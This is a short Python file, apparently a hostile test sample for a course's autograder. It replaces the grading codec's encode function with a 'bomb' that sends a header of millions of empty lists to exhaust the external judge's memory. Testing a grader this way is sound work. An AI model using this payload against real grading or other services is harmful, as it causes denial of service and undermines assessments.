"""Sends a message whose head holds millions of empty lists.

Each costs three bytes on the way and a hundred in the judge's memory.

Plain nbgrader: not run there: it aims at our judge, which stands outside.
"""

# %%
import json

from coursekit.check import codec

encode = codec.encode


def bomb(value):
    if isinstance(value, dict) and "outputs" in value:
        return encode(value)
    head = b"[" + b"[]," * (60 * 2**20 // 3) + b"[]]"
    lengths = codec._LENGTHS.pack(1) + codec._LENGTHS.pack(len(head))
    return lengths + head


codec.encode = bomb
